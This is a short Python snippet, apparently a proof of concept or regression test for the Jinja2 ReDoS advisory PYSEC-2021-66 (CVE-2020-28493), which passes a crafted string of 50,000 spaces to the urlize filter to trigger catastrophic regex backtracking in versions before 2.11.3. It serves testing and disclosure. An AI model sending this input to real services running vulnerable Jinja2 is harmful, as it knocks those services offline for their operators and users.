# PYSEC-2021-66 (CVE-2020-28493): Jinja2 before 2.11.3, the urlize filter's _punctuation_re regex backtracks
# catastrophically on text with many spaces or punctuation characters (ReDoS).
from jinja2.utils import urlize

urlize("<" + " " * 50000 + "!")
